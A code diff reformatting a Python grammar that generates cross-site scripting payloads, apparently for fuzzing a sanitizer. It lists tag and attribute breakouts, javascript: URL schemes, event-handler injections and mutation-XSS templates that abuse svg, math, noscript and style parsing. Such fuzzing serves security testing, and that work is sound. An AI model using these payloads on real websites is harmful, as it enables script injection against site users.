@@ -15,8 +15,20 @@ from typing import Any
 BREAKOUTS = (
     *("", '"', "'", '">', "'>", "`>", ">", "\\'>", '\\">', "&quot;>", "&#34;>", "%22>"),
     *("</title>", "</script>", "</style>", "</textarea>", "</template>", "</noscript>", "</a>"),
-    *("</h1>", "-->", "--!>", "]]>", "]]></script>", "*/", "`", "\u2028", "<!--", "<![CDATA[", "</"),
-    *('"}\'>', "</playbook-live-comments>", "<p ", "&lt;/p&gt;", "\u00ad>", "\ufeff", "</xmp>"),
+    *(
+        "</h1>",
+        "-->",
+        "--!>",
+        "]]>",
+        "]]></script>",
+        "*/",
+        "`",
+        "\u2028",
+        "<!--",
+        "<![CDATA[",
+        "</",
+    ),
+    *("\"}'>", "</playbook-live-comments>", "<p ", "&lt;/p&gt;", "\u00ad>", "\ufeff", "</xmp>"),
 )
 """What stands first: the end of the attribute, element or comment that the text may be in."""
 
@@ -32,7 +44,16 @@ EVENTS = (
 )
 HELP = {"onfocus": "autofocus tabindex=1", "onfocusin": "autofocus tabindex=1", "ontoggle": "open"}
 """What makes an event happen without anybody's hand."""
-ADDRESS_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcdoc")
+ADDRESS_ATTRIBUTES = (
+    "href",
+    "src",
+    "action",
+    "formaction",
+    "xlink:href",
+    "data",
+    "poster",
+    "srcdoc",
+)
 QUOTES = ('"', "'", "", "`")
 APART = (" ", "/", "\t", "\n", "\r", "\x0c", "  ", " / ")
 """What may stand between a tag and its attributes."""
@@ -83,10 +104,10 @@ SCHEMES: tuple[Callable[[str], str], ...] = (
     lambda code: f"feed:javascript:{code}",
     lambda code: f"view-source:javascript:{code}",
     lambda code: f"//\tjavascript:{code}",
-    lambda code: f"https://safe.example/\" onmouseover={code} x=\"",
+    lambda code: f'https://safe.example/" onmouseover={code} x="',
     lambda code: f"https://safe.example/' onmouseover={code} x='",
     lambda code: f"http:javascript:{code}",
-    lambda code: f"mailto:a@b.example?\"><img src=x onerror={code}>",
+    lambda code: f'mailto:a@b.example?"><img src=x onerror={code}>',
 )
 
 
@@ -160,7 +181,7 @@ class Grammar:
                 "<math><mtext><script>{}</script></mtext></math>",
                 "<script\n>{}//",
                 "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{}</x:script>",
-                "<?xml-stylesheet href=\"javascript:{}\"?>",
+                '<?xml-stylesheet href="javascript:{}"?>',
                 "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>{}</html:script>",
             )
         )
@@ -179,7 +200,7 @@ class Grammar:
                 "<object data={}></object>",
                 "<meta http-equiv=refresh content='0;url={}'>",
                 "<video poster={}></video>",
-                "<div style=\"background:url({})\">x</div>",
+                '<div style="background:url({})">x</div>',
                 "<svg><image href={} /></svg>",
                 "<input type=image src={}>",
                 "<picture><source srcset={}><img></picture>",
@@ -214,17 +235,17 @@ class Grammar:
         code = self._code(number)
         form = self._next(
             (
-                "<svg></p><style><a id=\"</style><img src=1 onerror={}>\">",
-                "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=1 onerror={}>\">",
-                "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
+                '<svg></p><style><a id="</style><img src=1 onerror={}>">',
+                '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror={}>">',
+                '<noscript><p title="</noscript><img src=x onerror={}>">',
                 "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
-                "<a href=\"x`\"><img src=x onerror={}//`>",
+                '<a href="x`"><img src=x onerror={}//`>',
                 "<listing>&lt;img src=1 onerror={}&gt;</listing>",
-                "<textarea><img title=\"</textarea><img src onerror={}>\">",
-                "<svg><desc><p><style><img src=\"</style><img src=x onerror={}>\"></p></desc></svg>",
+                '<textarea><img title="</textarea><img src onerror={}>">',
+                '<svg><desc><p><style><img src="</style><img src=x onerror={}>"></p></desc></svg>',
                 "&lt;img src=x onerror={}&gt;",
                 "&amp;lt;img src=x onerror={}&amp;gt;",
-                "<img alt=\"<x\" title=\"/><img src=x onerror={}>\">",
+                '<img alt="<x" title="/><img src=x onerror={}>">',
                 "<select><iframe></select><img src=x onerror={}>",
             )
         )
@@ -241,12 +262,12 @@ class Grammar:
                 "${{{}}}",
                 "`;{};//",
                 "\n{}\n",
-                "\" onmouseover=\"{}",
+                '" onmouseover="{}',
                 "' onfocus='{}' autofocus tabindex='1",
                 "x onmouseover={} ",
                 "</script><script>{}//",
                 "\u2029{}//",
-                "\"}};{};({{\"",
+                '"}};{};({{"',
                 "expression({})",
             )
         )
